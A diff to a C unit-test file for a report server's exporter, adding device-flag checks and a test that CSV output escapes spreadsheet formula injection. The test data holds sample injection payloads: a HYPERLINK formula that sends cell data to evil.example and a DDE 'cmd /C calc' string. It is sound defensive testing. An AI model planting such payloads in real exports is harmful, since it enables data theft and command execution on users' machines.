@@ -280,6 +280,7 @@ static srv_report_input *fixture(void)
 	assert_int_equal(srv_report_add_device(in,
 		"d4000000000000000000000000000000", "Lost phone", "expert",
 		now - 100 * DAY_MS, 1), 0);
+	assert_int_equal(srv_report_device_flags(in, "forked,restored"), 0);
 	assert_int_equal(srv_report_add_device(in,
 		"d2000000000000000000000000000000", "ອຸປະກອນ ເຊກອງ", "expert",
 		now - 20 * DAY_MS, 0), 0);
@@ -694,6 +695,10 @@ static void test_json_devices(void **state)
 	assert_true(cJSON_IsTrue(at(d, "not_synced")));
 	assert_string_equal(str(d, "last_sync"), "2026-04-15");
 	assert_int_equal(num(d, "days_since"), 20);
+	/* Flags for HQ to look at (a copied store, a restore): "" if none. */
+	assert_string_equal(str(d, "flags"), "");
+	assert_string_equal(str(find(ds, "name", "Lost phone"), "flags"),
+			    "forked,restored");
 	cJSON_Delete(doc);
 }
 
@@ -797,6 +802,68 @@ static void test_csv(void **state)
 		"ອຸປະກອນ ເຊກອງ,expert,d2000000000000000000000000000000,"
 		"2026-04-15,20\r\n\r\n"));
 	free(csv);
+}
+
+/* CSV formula injection (OWASP "CSV Injection"): a text cell beginning with
+** = + - @, a tab or a CR is run as a formula by spreadsheet programs. Such a
+** cell is written quoted with a ' in front, which spreadsheets show as text;
+** numbers, negative ones included, are written as they are. The first
+** entries go through the real record check and merge; tab, CR and a
+** negative number are not allowed in records, so they come in a document
+** made by hand (the renderer takes any document). */
+static void test_csv_formulas(void **state)
+{
+	srv_report_input *in = srv_report_input_new();
+	srv_report_params p;
+	cJSON *doc = NULL;
+	char *csv = NULL, msg[256];
+	size_t len = 0;
+
+	(void)state;
+	assert_non_null(in);
+	add(in, "visit", "51000000000000000000000000000001", "2026-01-21",
+	    "{\"direction\":\"out\",\"province\":\"Salavan\","
+	    "\"leader\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,"
+	    "\\\"Click\\\")\",\"title\":\"+1+cmd|' /C calc'!A0\","
+	    "\"members\":8,\"sector\":\"agriculture\","
+	    "\"host\":\"@SUM(1,2)\",\"start\":\"2026-01-20\"}");
+	add(in, "trip", "52000000000000000000000000000001", "2026-03-07",
+	    "{\"expert\":\"-2+3\",\"experts\":3,\"specialty\":\"surgery\","
+	    "\"province\":\"Attapeu\",\"site\":\"Bệnh viện = hospital\","
+	    "\"start\":\"2026-03-02\",\"end\":\"2026-03-06\","
+	    "\"trainings\":4,\"trained\":25,\"patients\":40}");
+	memset(&p, 0, sizeof p);
+	assert_int_equal(srv_period_parse("2026H1", &p.period, msg, sizeof msg),
+			 0);
+	p.now_ms = ms_of("2026-05-05");
+	assert_int_equal(srv_report_build(in, &p, &doc, msg, sizeof msg), 0);
+	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &csv, &len), 0);
+	assert_non_null(strstr(csv,
+		"\r\n2026-01-20,,out,Salavan,agriculture,"
+		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
+		"\"'+1+cmd|' /C calc'!A0\",8,\"'@SUM(1,2)\"\r\n"));
+	/* '=' inside a text is harmless and stays as it is */
+	assert_non_null(strstr(csv,
+		"\r\n2026-03-02,2026-03-06,Attapeu,health,surgery,\"'-2+3\","
+		"Bệnh viện = hospital,3,15,4,25,40\r\n"));
+	free(csv);
+	cJSON_Delete(doc);
+	srv_report_input_free(in);
+
+	doc = cJSON_Parse(
+		"{\"period\":{\"label\":\"2026H1\"},\"visits\":[{"
+		"\"start\":\"2026-01-20\",\"direction\":\"out\","
+		"\"province\":\"Salavan\",\"leader\":\"\\tTAB\","
+		"\"title\":\"\\rCR\",\"members\":-3,\"host\":\"-\"}],"
+		"\"devices\":[{\"name\":\"=x\",\"role\":\"expert\",\"id\":\"d1\","
+		"\"last_sync\":null,\"days_since\":-1.5,\"not_synced\":true}]}");
+	assert_non_null(doc);
+	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &csv, &len), 0);
+	assert_non_null(strstr(csv,
+		"\r\n2026-01-20,,out,Salavan,,\"'\tTAB\",\"'\rCR\",-3,\"'-\"\r\n"));
+	assert_non_null(strstr(csv, "\r\n\"'=x\",expert,d1,,-1.5\r\n"));
+	free(csv);
+	cJSON_Delete(doc);
 }
 
 /* ---- tests: table -------------------------------------------------------- */
@@ -995,6 +1062,7 @@ int main(void)
 		cmocka_unit_test(test_targets_default_parses),
 		cmocka_unit_test(test_targets_errors),
 		cmocka_unit_test(test_web_assets),
+		cmocka_unit_test(test_csv_formulas),
 		cmocka_unit_test_setup_teardown(test_json_header_and_summary,
 						setup, teardown),
 		cmocka_unit_test_setup_teardown(
